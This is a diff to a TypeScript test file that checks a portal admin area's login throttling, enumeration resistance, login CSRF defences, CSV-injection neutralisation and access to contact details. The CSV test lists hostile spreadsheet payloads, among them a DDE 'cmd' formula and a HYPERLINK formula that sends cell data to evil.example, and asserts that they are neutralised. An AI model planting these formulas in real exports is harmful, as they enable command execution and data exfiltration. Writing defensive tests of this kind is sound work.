@@ -1,6 +1,8 @@
 // The operators' area through app.inject with a real SQLite: sign-in, lock-out, CSRF, roles, every
 // page, exports equal to the page, the suggestion workflow with email and retention, the audit log.
+import { createHash } from 'node:crypto';
 import { load } from 'cheerio';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { SMTPServer } from 'smtp-server';
 import t from 'tap';
 import { hashPassword } from '../../publisher/admin/passwords.ts';
@@ -79,24 +81,92 @@ t.test('sign-in: wrong password refused, right one gives a protected, fresh sess
   await bed.close();
 });
 
-t.test('lock-out with a growing delay after repeated failures', async (t) => {
+/** Operators with a cheap password hash (the throttle is under test, not scrypt), and a clock and
+ * sleep the test drives: the per-name delays asked for are recorded instead of waited. */
+async function guessingBed() {
   let now = new Date('2026-03-01T10:00:00Z');
-  const bed = await withUsers({ now: () => now });
-  const browser = new Browser(bed, '10.7.7.7');
-  for (let i = 0; i < 5; i++) await browser.login('amina', `wrong ${i}`);
-  const locked = await browser.login('amina');
-  t.equal(locked.status, 429, 'even the right password waits');
-  t.match(locked.$('[role=alert]').text(), /محاولات كثيرة/, 'told in the default language (ar)');
-  const user = bed.store.users.get('amina')!;
-  const firstWait = Date.parse(user.locked_until!) - now.getTime();
-  t.equal(firstWait, 60_000);
-  now = new Date(now.getTime() + 61_000);
-  await browser.login('amina', 'wrong again');
-  const secondWait = Date.parse(bed.store.users.get('amina')!.locked_until!) - now.getTime();
-  t.equal(secondWait, 120_000, 'the wait doubles');
-  now = new Date(now.getTime() + 121_000);
-  t.equal((await browser.login('amina')).status, 303, 'after the wait the right password works');
-  t.equal(bed.store.users.get('amina')!.failed_logins, 0);
+  const delays: number[] = [];
+  const bed = await makeApp({
+    now: () => now,
+    sleep: async (ms) => {
+      delays.push(ms);
+    },
+  });
+  const hash = await hashPassword(PASSWORD, 2 ** 10);
+  bed.store.users.add('amina', 'admin', hash, now.toISOString());
+  bed.store.users.add('karim', 'editor', hash, now.toISOString());
+  return { bed, delays, advance: (ms: number) => (now = new Date(now.getTime() + ms)) };
+}
+
+t.test('a guesser from one address is throttled whatever the name; the operator elsewhere is not', async (t) => {
+  const { bed, delays, advance } = await guessingBed();
+  const guesser = new Browser(bed, '10.7.7.7');
+  const statuses: number[] = [];
+  for (let i = 0; i < 10; i++) statuses.push((await guesser.login('amina', `wrong ${i}`)).status);
+  t.same(statuses, Array(10).fill(401), 'ten failures are answered');
+  const throttled = await guesser.login('amina');
+  t.equal(throttled.status, 429, 'then this address waits, even with the right password');
+  t.match(throttled.$('[role=alert]').text(), /محاولات فاشلة كثيرة من اتصالك/, 'told in the default language (ar)');
+  t.notMatch(throttled.$('[role=alert]').text(), /[0-9٠-٩]/, 'without saying when to strike next');
+  t.equal((await guesser.login('nobody')).status, 429, 'the same for a name that does not exist');
+  // The operator, from another address, signs in with the right password.
+  const operator = new Browser(bed, '10.8.8.8');
+  t.equal((await operator.login('amina')).status, 303, 'the real operator gets through');
+  t.equal(delays.at(-1), 3000, 'after a short wait (the name had ten recent failures)');
+  t.equal(bed.store.users.get('amina')!.locked_until, null, 'the account is never locked');
+  // The guesser's address leaks: one attempt every six minutes.
+  advance(6 * 60_000 + 1000);
+  t.equal((await guesser.login('amina', 'wrong again')).status, 401);
+  t.equal((await guesser.login('amina', 'and again')).status, 429);
+  advance(60 * 60_000);
+  t.equal((await guesser.login('amina')).status, 303, 'an hour later the address is forgiven');
+  await bed.close();
+});
+
+t.test('an attacker rotating addresses cannot lock a known operator out', async (t) => {
+  const { bed, delays } = await guessingBed();
+  const statuses = new Map<number, number>();
+  for (let i = 0; i < 30; i++) {
+    const attacker = new Browser(bed, `10.60.${i >> 8}.${i & 255}`);
+    const status = (await attacker.login('amina', `guess number ${i}`)).status;
+    statuses.set(status, (statuses.get(status) ?? 0) + 1);
+  }
+  t.same([...statuses], [[401, 30]], 'every guess is answered "wrong", none locks anything');
+  t.ok(Math.max(...delays) <= 3000, `each attempt on the name waits at most 3 s (${delays.length} waits, the longest ${Math.max(...delays)} ms)`);
+  t.same(delays.slice(0, 5), [200, 400, 800, 1600, 3000], 'the wait grows from the sixth failure and stops at 3 s');
+  const operator = new Browser(bed, '10.8.8.8');
+  const signedIn = await operator.login('amina');
+  t.equal(signedIn.status, 303, 'the right password gets through');
+  t.equal((await operator.get('/admin/freshness')).status, 200);
+  t.equal(bed.store.users.get('amina')!.failed_logins, 0, 'the count of failures starts again after a sign-in');
+  const audit = bed.store.users.auditLog(100).entries.filter((e) => e.action === 'login_failed');
+  t.equal(audit.length, 11, 'failures are audited one by one, then at each power of two: the log cannot be flooded');
+  await bed.close();
+});
+
+t.test('a name that exists and one that does not get the same answers', async (t) => {
+  const { bed, delays } = await guessingBed();
+  const answers = async (name: string, block: number) => {
+    const seen: string[] = [];
+    const before = delays.length;
+    for (let i = 0; i < 8; i++) {
+      const browser = new Browser(bed, `10.70.${block}.${i}`);
+      const response = await browser.login(name, `wrong ${i}`);
+      const body = response.body.replace(/name="csrf" value="[^"]*"/g, 'name="csrf" value=""').replaceAll(`value="${name}"`, 'value="NAME"');
+      seen.push(`${response.status} ${createHash('sha256').update(body).digest('hex')} ${JSON.stringify(response.headers['set-cookie'] ?? null).replace(/portal_login=[\w-]+/, 'portal_login=X')}`);
+    }
+    const address = new Browser(bed, `10.71.${block}.1`);
+    for (let i = 0; i < 10; i++) await address.login(name, 'wrong');
+    const throttled = await address.login(name, 'wrong');
+    seen.push(`${throttled.status} ${throttled.body.replace(/name="csrf" value="[^"]*"/g, '').replaceAll(`value="${name}"`, 'value="NAME"').length}`);
+    return { seen, delays: delays.slice(before, before + 8) };
+  };
+  const known = await answers('amina', 1);
+  const unknown = await answers('amira', 2);
+  t.same(unknown.seen, known.seen, 'same statuses, same pages, same cookies');
+  t.same(unknown.delays, known.delays, 'same waits');
+  t.match(known.seen[0], /^401 /);
+  t.match(known.seen.at(-1), /^429 /);
   await bed.close();
 });
 
@@ -117,6 +187,47 @@ t.test('CSRF: a form without the session token changes nothing', async (t) => {
   t.equal(bed.store.suggestions.get(id)!.status, 'new');
   const loginCsrf = await bed.app.inject({ method: 'POST', url: '/admin/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'name=amina&password=x' });
   t.equal(loginCsrf.statusCode, 403, 'the login form has a token too');
+  await bed.close();
+});
+
+t.test('login CSRF: the form\'s token is bound to the browser, and another site\'s form is refused', async (t) => {
+  const bed = await withUsers();
+  // The attacker fetches a login form for himself, with his own pre-session cookie...
+  const attacker = new Browser(bed, '10.40.0.1');
+  const attackerForm = await attacker.get('/admin/login');
+  const attackerToken = attackerForm.$('input[name=csrf]').val() as string;
+  t.match(String(attackerForm.headers['set-cookie']), /portal_login=[\w-]+; Path=\/admin; SameSite=Strict; HttpOnly/, 'the form comes with a pre-session cookie');
+  // ...and has the victim's browser post it with his own name and password (a hidden form).
+  const victim = new Browser(bed, '10.40.0.2');
+  await victim.get('/admin/login');
+  const forged = await victim.post('/admin/login', { csrf: attackerToken, name: 'karim', password: PASSWORD, next: '' });
+  t.equal(forged.status, 403, 'a token of another browser is refused');
+  t.notMatch(victim.cookie, /portal_session=/, 'the victim is not signed in as the attacker');
+  const cookieless = await bed.app.inject({
+    method: 'POST',
+    url: '/admin/login',
+    headers: { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded' },
+    payload: new URLSearchParams({ csrf: attackerToken, name: 'karim', password: PASSWORD }).toString(),
+  });
+  t.equal(cookieless.statusCode, 403, 'a token without its cookie is refused');
+  t.notOk(String(cookieless.headers['set-cookie'] ?? '').includes('portal_session='));
+  // The Origin of another site is refused before anything else, even with a valid token and cookie.
+  const form = await attacker.get('/admin/login');
+  const crossSite = await bed.app.inject({
+    method: 'POST',
+    url: '/admin/login',
+    headers: { ...BROWSER, cookie: attacker.cookie, origin: 'https://evil.example', 'content-type': 'application/x-www-form-urlencoded' },
+    payload: new URLSearchParams({ csrf: form.$('input[name=csrf]').val() as string, name: 'karim', password: PASSWORD }).toString(),
+    remoteAddress: '10.40.0.1',
+  });
+  t.equal(crossSite.statusCode, 403, 'a post from another site\'s page is refused');
+  t.notOk(String(crossSite.headers['set-cookie'] ?? '').includes('portal_session='));
+  // The real thing works, and the pre-session cookie is dropped once signed in.
+  const signedIn = await attacker.login('karim');
+  t.equal(signedIn.status, 303);
+  t.match(String(signedIn.headers['set-cookie']), /portal_login=; Path=\/admin; SameSite=Strict; HttpOnly; Max-Age=0/);
+  t.match(attacker.cookie, /portal_session=/);
+  t.notMatch(attacker.cookie, /portal_login=/);
   await bed.close();
 });
 
@@ -163,18 +274,18 @@ t.test('the freshness exports carry the page\'s figures', async (t) => {
   const csv = await admin.get('/admin/freshness.csv');
   const json = JSON.parse((await admin.get('/admin/freshness.json')).body);
   t.match(csv.headers['content-type'], /text\/csv/);
-  const lines = csv.body.replace(/^\ufeff/, '').trim().split('\r\n');
+  const lines = parseCsv(csv.body, { bom: true }) as string[][];
   t.equal(lines.length, 1 + 3);
-  t.equal(lines[0]!.split(',')[0], 'partner');
+  t.equal(lines[0]![0], 'partner');
   t.same(
-    lines.slice(1).map((l) => l.split(',')[0]),
+    lines.slice(1).map((l) => l[0]),
     json.partners.map((p: { partner: string }) => p.partner),
     'same partners, same order',
   );
   t.same(page.$('.freshness-table tbody th a').map((_, e) => page.$(e).attr('href')).get(), json.partners.map((p: { partner: string }) => `/admin/partners/${p.partner}`));
   t.equal(csv.body.replace(/^\ufeff/, ''), freshnessCsv({ ...json, generated_at: json.generated_at }), 'the CSV is the report');
-  const alphaRow = lines.find((l) => l.startsWith('alpha,'))!;
-  t.match(alphaRow, /,30,2025-06-01,overdue,/);
+  const alphaRow = lines.find((l) => l[0] === 'alpha')!;
+  t.match(alphaRow.join(','), /,30,2025-06-01,overdue,/);
   await bed.close();
 });
 
@@ -222,7 +333,7 @@ t.test('suggestions: examine, answer in the visitor\'s language, email, publish,
   // Exports: without contacts by default; with them only when an admin asks.
   const plain = await admin.get('/admin/suggestions.csv');
   t.notMatch(plain.body, /souad@example\.ma/);
-  t.match(plain.body.split('\r\n')[0]!, /^\ufeffid,created_at,language,topic,page_ref,status,message,answer,answered_at,published$/);
+  t.match(plain.body.split('\r\n')[0]!, /^\ufeff"id","created_at","language","topic","page_ref","status","message","answer","answered_at","published"$/);
   const withContacts = await admin.get('/admin/suggestions.csv?contacts=1');
   t.match(withContacts.body, /souad@example\.ma/);
   // Retention: contact details deleted once the period after the answer has passed.
@@ -237,6 +348,67 @@ t.test('suggestions: examine, answer in the visitor\'s language, email, publish,
   t.match(auditPage.$('table').text(), /suggestion_answer/);
   await bed.close();
   await new Promise<void>((resolve) => smtp.close(() => resolve()));
+});
+
+/** Every field of a CSV file is a quoted string followed by a comma or the end of its line. */
+const ALL_QUOTED = /^(?:"(?:[^"]|"")*"(?:,|\r\n))*$/;
+
+t.test('CSV exports: every field quoted, formulas neutralised (OWASP CSV injection)', async (t) => {
+  const bed = await withUsers();
+  const admin = new Browser(bed);
+  await admin.login('amina');
+  const hostile = [
+    "=cmd|' /C calc'!A0",
+    ';=cmd|\' /C calc\'!A0',
+    '+1+1',
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '  =1+1',
+    '\uff1d1+1',
+    '=HYPERLINK("https://evil.example?"&A1;"Cliquez")',
+    'Un message, avec "guillemets" ; et point-virgule',
+  ];
+  for (const [i, text] of hostile.entries()) {
+    bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: text, name: `Nom ${i}`, email: null }, new Date(Date.UTC(2026, 0, 1 + i)).toISOString());
+  }
+  for (const url of ['/admin/suggestions.csv', '/admin/suggestions.csv?contacts=1', '/admin/freshness.csv']) {
+    const body = (await admin.get(url)).body.replace(/^\ufeff/, '');
+    t.match(body, ALL_QUOTED, `${url}: every field is quoted`);
+    const cells = (parseCsv(body) as string[][]).flat();
+    t.same(cells.filter((c) => /^[\s\u0000-\u001f]*[=+\-@\uff1d]/.test(c)), [], `${url}: no cell starts a formula`);
+  }
+  const rows = parseCsv((await admin.get('/admin/suggestions.csv?contacts=1')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
+  const byName = new Map(rows.map((r) => [r.name, r.message]));
+  hostile.forEach((text, i) => {
+    // A leading ";" is no formula: quoting keeps French Excel, which splits on ";", from splitting it.
+    const expected = /^(?:;|Un message)/.test(text) ? text : `'${text}`;
+    t.equal(byName.get(`Nom ${i}`), expected, `${JSON.stringify(text)} → ${JSON.stringify(expected)}`);
+  });
+  await bed.close();
+});
+
+t.test('one policy for contact details: administrators only, on the page and in the export', async (t) => {
+  const bed = await withUsers();
+  const id = bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: 'Merci pour le portail.', name: 'Souad Alaoui', email: 'souad@example.ma' }, new Date().toISOString());
+  const editor = new Browser(bed, '10.41.0.1');
+  await editor.login('karim');
+  const seen = await editor.get(`/admin/suggestions/${id}?lang=fr`);
+  t.equal(seen.status, 200);
+  t.notMatch(seen.body, /Souad|souad@example\.ma/, 'an editor does not see the name or the email');
+  t.match(seen.$('.item-facts').text(), /Visibles des administrateurs seulement/, 'but is told there are some');
+  t.equal(seen.$('textarea[name=answer]').length, 1, 'and can still answer (the portal emails the answer)');
+  t.equal((await editor.get('/admin/suggestions.csv?contacts=1')).status, 403, 'nor can an editor export them');
+  t.notMatch((await editor.get('/admin/suggestions.csv')).body, /Souad|souad@/);
+  t.equal((await editor.get('/admin/suggestions')).$('a[href="/admin/suggestions.csv?contacts=1"]').length, 0, 'no link to the contact export');
+  const admin = new Browser(bed, '10.41.0.2');
+  await admin.login('amina');
+  const full = await admin.get(`/admin/suggestions/${id}?lang=fr`);
+  t.match(full.$('.item-facts').text(), /Souad Alaoui/);
+  t.match(full.$('.item-facts').text(), /souad@example\.ma/);
+  t.match((await admin.get('/admin/suggestions.csv?contacts=1')).body, /souad@example\.ma/);
+  await bed.close();
 });
 
 t.test('a failing mail server is reported, the answer is kept', async (t) => {
